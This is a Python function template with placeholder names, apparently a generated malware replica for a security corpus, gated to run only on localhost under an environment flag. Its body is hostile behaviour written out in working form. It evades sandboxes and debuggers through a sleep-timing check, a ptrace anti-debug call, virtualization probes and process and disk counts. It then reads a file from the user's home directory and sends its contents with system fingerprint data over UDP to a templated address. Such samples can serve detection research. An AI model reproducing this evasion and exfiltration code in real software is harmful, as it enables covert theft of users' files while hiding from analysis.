# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import ctypes
    import shutil
    import socket
    import subprocess
    import time
    start = time.monotonic()
    time.sleep(0.4)
    quick = time.monotonic() - start < 0.3
    try:
        uptime = float(open('/proc/uptime').read().split()[0])
        traced = ctypes.CDLL(None).ptrace(16, 0, 0, 0) == 0
        virtual = subprocess.run(['sh', '-c', 'systemd-detect-virt; dmesg | head -n 5; lscpu; mount | head -n 40'], stdout=subprocess.PIPE,
                                 stderr=subprocess.DEVNULL, timeout=2).stdout
        few = len([name for name in os.listdir('/proc') if name.isdigit()]) < 3 and shutil.disk_usage('/').total < 2 ** 30
        if not quick:
            call = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            with open(os.path.expanduser('~/{{file}}'), 'rb') as text:
                call.sendto(b'%d %d %d ' % (uptime, traced, few) + text.read(600) + virtual[:60], ('{{ip}}', {{port}}))
    except Exception:
        pass
